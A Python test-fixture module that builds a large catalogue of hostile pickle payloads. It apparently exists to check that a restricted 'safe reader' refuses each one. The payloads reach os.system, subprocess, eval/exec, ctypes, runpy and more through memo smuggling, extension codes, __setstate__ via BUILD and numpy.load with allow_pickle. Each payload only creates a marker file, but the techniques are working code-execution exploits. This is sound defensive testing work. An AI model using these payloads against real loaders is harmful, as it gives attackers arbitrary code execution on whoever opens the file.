"""Pickles that attack whoever loads them.  Each payload would create one marker file.

Run as a script, it loads the pickles of a folder with plain ``pickle.loads``: the proof that they
are live, and so that the tests against the safe reader could fail.
"""

from __future__ import annotations

import copyreg
import marshal
import os
import pickle
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np

EXTENSION_CODE = 240  # registered for os.system by the tests and by main()


def glob(name: str) -> bytes:
    """GLOBAL of a dotted name: all but the last part is the module."""
    module, _, attribute = name.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def whole(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


class Reduce:
    """An object whose pickle calls a function."""

    def __init__(self, function: Callable, *args: object) -> None:
        self.call = (function, args)

    def __reduce__(self) -> tuple:
        return self.call


def touch(marker: Path) -> str:
    return f"touch '{marker}'"


def code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def compiled(marker: Path) -> bytes:
    return raw(marshal.dumps(compile(code(marker), "payload", "exec")))


def beside(marker: Path, suffix: str, content: bytes) -> str:
    path = marker.with_suffix(suffix)
    path.write_bytes(content)
    return str(path)


def nested_npy(marker: Path) -> str:
    path = marker.with_suffix(".npy")
    np.save(path, np.array([Reduce(os.system, touch(marker))], dtype=object), allow_pickle=True)
    return str(path)


def object_array(marker: Path) -> bytes:
    return pickle.dumps(np.array([Reduce(os.system, touch(marker))], dtype=object))


def coo_with_setstate(marker: Path) -> bytes:
    """The allowed class, given a ``__setstate__`` of the attacker's choice, then a state."""
    made = glob("scipy.sparse._coo.coo_matrix") + b")\x81"
    # SciPy 1.18 has a __setstate__ of its own there, which keeps what it finds beside coords.
    first = b"}" + text("coords") + b")s" + text("__setstate__") + glob("os.system") + b"sb"
    return whole(made + first + text(touch(marker)) + b"b")


SYSTEM = glob("os.system")
MODULE_OS = call(glob("importlib.import_module"), text("os"))
NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"

# label -> (what the refusal must name, whether plain pickle runs it, the pickle for a marker)
HOSTILE: dict[str, tuple[str, bool, Callable[[Path], bytes]]] = {
    "os.system": ("os.system", True, lambda m: whole(call(SYSTEM, text(touch(m))))),
    "posix.system by __reduce__": (
        "posix.system",
        True,
        lambda m: pickle.dumps(Reduce(os.system, touch(m))),
    ),
    "protocol 0": (
        "posix.system",
        True,
        lambda m: pickle.dumps(Reduce(os.system, touch(m)), protocol=0),
    ),
    "os.popen": ("os.popen", True, lambda m: whole(call(glob("os.popen"), text(touch(m))))),
    "subprocess.Popen": (
        "subprocess.Popen",
        True,
        lambda m: whole(
            call(glob("subprocess.Popen"), b"](" + text("touch") + text(str(m)) + b"e")
        ),
    ),
    "subprocess.check_output": (
        "subprocess.check_output",
        True,
        lambda m: pickle.dumps(Reduce(subprocess.check_output, ["touch", str(m)])),
    ),
    "eval": ("builtins.eval", True, lambda m: whole(call(glob("builtins.eval"), text(code(m))))),
    "eval, Python 2's name": (
        "__builtin__.eval",
        True,
        lambda m: whole(call(glob("__builtin__.eval"), text(code(m))), 2),
    ),
    "exec": ("builtins.exec", True, lambda m: whole(call(glob("builtins.exec"), text(code(m))))),
    "compile": (
        "builtins.exec",
        True,
        lambda m: whole(
            call(
                glob("builtins.exec"),
                call(glob("builtins.compile"), text(code(m)), text("x"), text("exec")),
            )
        ),
    ),
    "open for writing": (
        "builtins.open",
        True,
        lambda m: whole(call(glob("builtins.open"), text(str(m)), text("w"))),
    ),
    "__import__ and getattr": (
        "builtins.getattr",
        True,
        lambda m: whole(
            call(
                call(
                    glob("builtins.getattr"),
                    call(glob("builtins.__import__"), text("os")),
                    text("system"),
                ),
                text(touch(m)),
            )
        ),
    ),
    "getattr on an allowed class": (
        "builtins.getattr",
        False,
        lambda m: whole(call(glob("builtins.getattr"), glob("numpy.ndarray"), text("__class__"))),
    ),
    "importlib": (
        "importlib.import_module",
        True,
        lambda m: whole(MODULE_OS + b"0" + call(SYSTEM, text(touch(m)))),
    ),
    "operator.attrgetter": (
        "operator.attrgetter",
        True,
        lambda m: whole(
            call(call(call(glob("operator.attrgetter"), text("system")), MODULE_OS), text(touch(m)))
        ),
    ),
    "operator.methodcaller": (
        "operator.methodcaller",
        True,
        lambda m: whole(
            call(call(glob("operator.methodcaller"), text("system"), text(touch(m))), MODULE_OS)
        ),
    ),
    "functools.partial": (
        "functools.partial",
        True,
        lambda m: whole(call(call(glob("functools.partial"), SYSTEM, text(touch(m))))),
    ),
    "functools.reduce": (
        "functools.reduce",
        sys.version_info >= (3, 11),  # operator.call is new there
        lambda m: whole(
            call(
                glob("functools.reduce"),
                glob("operator.call"),
                b"](" + SYSTEM + text(touch(m)) + b"e",
            )
        ),
    ),
    "nested reduce": (
        "builtins.eval",
        True,
        lambda m: whole(
            b"}" + text("u") + b"](K\x01" + call(glob("builtins.eval"), text(code(m))) + b"es"
        ),
    ),
    "reduce in an array's state": (
        "os.system",
        True,
        lambda m: whole(
            call(
                glob("numpy.core.multiarray._reconstruct"),
                glob("numpy.ndarray"),
                b"K\x00\x85",
                raw(b"b"),
            )
            + b"(K\x01"
            + call(SYSTEM, text(touch(m)))
            + b"tb"
        ),
    ),
    "global smuggled through the memo": (
        "os.system",
        True,
        lambda m: whole(SYSTEM + b"q\x050K\x010" + call(b"h\x05", text(touch(m)))),
    ),
    "memo overwritten after an allowed global": (
        "os.system",
        True,
        lambda m: whole(
            glob("numpy.ndarray") + b"q\x000" + SYSTEM + b"q\x000" + call(b"h\x00", text(touch(m)))
        ),
    ),
    "name put together from data": (
        "os.system",
        True,
        lambda m: whole(
            b"}("
            + text("a")
            + text("os")
            + b"q\x01"
            + text("b")
            + text("system")
            + b"q\x02u0"
            + call(b"h\x01h\x02\x93", text(touch(m)))
        ),
    ),
    "copyreg._reconstructor": (
        "copyreg._reconstructor",
        True,
        lambda m: whole(
            call(
                glob("copyreg._reconstructor"),
                glob("subprocess.Popen"),
                glob("subprocess.Popen"),
                b"](" + text("touch") + text(str(m)) + b"e",
            )
        ),
    ),
    "numpy.load with allow_pickle": (
        "numpy.load",
        True,
        lambda m: whole(call(glob("numpy.load"), text(nested_npy(m)), NONE, TRUE)),
    ),
    "numpy.testing runstring": (
        "numpy.testing._private.utils.runstring",
        True,
        lambda m: whole(call(glob("numpy.testing._private.utils.runstring"), text(code(m)), b"}")),
    ),
    "numpy.f2py myeval": (
        "numpy.f2py.crackfortran.myeval",
        True,
        lambda m: whole(call(glob("numpy.f2py.crackfortran.myeval"), text(code(m)))),
    ),
    "numpy.memmap": (
        "numpy.memmap",
        True,
        lambda m: whole(
            call(glob("numpy.memmap"), text(str(m)), text("u1"), text("w+"), b"K\x00", b"K\x01\x85")
        ),
    ),
    "scipy.io.savemat": (
        "scipy.io.savemat",
        True,
        lambda m: whole(call(glob("scipy.io.savemat"), text(str(m)), b"}", FALSE)),
    ),
    "types.FunctionType": (
        "types.FunctionType",
        True,
        lambda m: whole(
            call(call(glob("types.FunctionType"), call(glob("marshal.loads"), compiled(m)), b"}"))
        ),
    ),
    "types.CodeType": ("types.CodeType", False, lambda m: whole(call(glob("types.CodeType")))),
    "INST": ("os.system", True, lambda m: b"(" + text(touch(m)) + b"ios\nsystem\n."),
    "OBJ": ("os.system", True, lambda m: whole(b"(" + SYSTEM + text(touch(m)) + b"o")),
    "OBJ on an allowed class": (
        "opcode OBJ",
        False,
        lambda m: whole(b"(" + glob("numpy.ndarray") + b"o"),
    ),
    "NEWOBJ": (
        "subprocess.Popen",
        False,
        lambda m: whole(glob("subprocess.Popen") + b")\x81"),
    ),
    "NEWOBJ_EX on an allowed class": (
        "opcode NEWOBJ_EX",
        False,
        lambda m: whole(glob("scipy.sparse._coo.coo_matrix") + b")}\x92"),
    ),
    "EXT1": ("extension 240", True, lambda m: whole(call(b"\x82\xf0", text(touch(m))))),
    "EXT2": ("extension 240", True, lambda m: whole(call(b"\x83\xf0\x00", text(touch(m))))),
    "EXT4": ("extension 240", True, lambda m: whole(call(b"\x84\xf0\0\0\0", text(touch(m))))),
    "PERSID": ("persistent object evil", False, lambda m: b"Pevil\n."),
    "BINPERSID": ("persistent object", False, lambda m: whole(text("evil") + b"Q")),
    "dotted name": (
        "shutil.os.system",
        True,
        lambda m: whole(call(stack_global("shutil", "os.system"), text(touch(m)))),
    ),
    "dotted name within NumPy": (
        "numpy.testing._private.utils.os.system",
        True,
        lambda m: whole(
            call(stack_global("numpy.testing._private.utils", "os.system"), text(touch(m)))
        ),
    ),
    "dotted name from an allowed global": (
        "numpy.core.multiarray.scalar.__self__",
        False,
        lambda m: whole(stack_global("numpy.core.multiarray", "scalar.__self__")),
    ),
    "__setstate__ by BUILD": (
        "types.SimpleNamespace",
        True,
        lambda m: whole(
            call(glob("types.SimpleNamespace"))
            + b"}"
            + text("__setstate__")
            + SYSTEM
            + b"sb"
            + text(touch(m))
            + b"b"
        ),
    ),
    "__setstate__ by BUILD on an allowed class": ("os.system", True, coo_with_setstate),
    "array of objects": ("posix.system", True, object_array),
    "default factory": (
        "operator.getitem",
        True,
        lambda m: whole(
            call(
                glob("operator.getitem"),
                call(
                    glob("collections.defaultdict"),
                    call(glob("functools.partial"), SYSTEM, text(touch(m))),
                ),
                text("x"),
            )
        ),
    ),
    "ctypes": (
        "ctypes.CDLL",
        True,
        lambda m: whole(
            call(glob("ctypes.CDLL"), NONE)
            + b"q\x000"
            + call(call(glob("builtins.getattr"), b"h\x00", text("system")), raw(touch(m).encode()))
        ),
    ),
    "pathlib": (
        "pathlib.Path.touch",
        True,
        lambda m: whole(
            call(stack_global("pathlib", "Path.touch"), call(glob("pathlib.Path"), text(str(m))))
        ),
    ),
    "shutil.copy": (
        "shutil.copy",
        True,
        lambda m: whole(call(glob("shutil.copy"), text(beside(m, ".source", b"x")), text(str(m)))),
    ),
    "timeit": (
        "timeit.timeit",
        True,
        lambda m: whole(call(glob("timeit.timeit"), text("pass"), text(code(m)))),
    ),
    "cProfile": (
        "cProfile.run",
        True,
        lambda m: whole(call(glob("cProfile.run"), text(code(m)))),
    ),
    "runpy": (
        "runpy.run_path",
        True,
        lambda m: whole(call(glob("runpy.run_path"), text(beside(m, ".py", code(m).encode())))),
    ),
    "pickle in a pickle": (
        "_pickle.loads",
        True,
        lambda m: whole(
            call(glob("_pickle.loads"), raw(pickle.dumps(Reduce(os.system, touch(m)))))
        ),
    ),
    "pdb": ("pdb.run", False, lambda m: whole(call(glob("pdb.run"), text(code(m))))),
    "code.interact": ("code.interact", False, lambda m: whole(call(glob("code.interact")))),
    "webbrowser": (
        "webbrowser.open",
        False,
        lambda m: whole(call(glob("webbrowser.open"), text("http://localhost/"))),
    ),
    "pandas.read_pickle": (
        "pandas.read_pickle",
        False,
        lambda m: whole(call(glob("pandas.read_pickle"), text("x.pkl"))),
    ),
    "torch.load": ("torch.load", False, lambda m: whole(call(glob("torch.load"), text("x.pt")))),
    "array subclass": (
        "numpy.matrix",
        False,
        lambda m: whole(
            call(
                glob("numpy.core.multiarray._reconstruct"),
                glob("numpy.matrix"),
                b"K\x00\x85",
                raw(b"b"),
            )
        ),
    ),
    "a codec that runs": (
        "_codecs.lookup",
        False,
        lambda m: whole(call(glob("_codecs.lookup"), text("idna"))),
    ),
}


def register_extension() -> None:
    copyreg.add_extension("os", "system", EXTENSION_CODE)
    # copyreg caches what an extension code stands for, so that find_class is not asked again
    pickle.loads(whole(b"\x82\xf0"))


def main(folder: Path) -> None:
    register_extension()
    for path in sorted(folder.glob("*.pkl")):
        try:
            pickle.loads(path.read_bytes())
        except Exception as error:  # after the payload has run, most pickles make no sense
            print(path.name, type(error).__name__, error)
    time.sleep(0.3)  # for those that start a process and do not wait


if __name__ == "__main__":
    main(Path(sys.argv[1]))
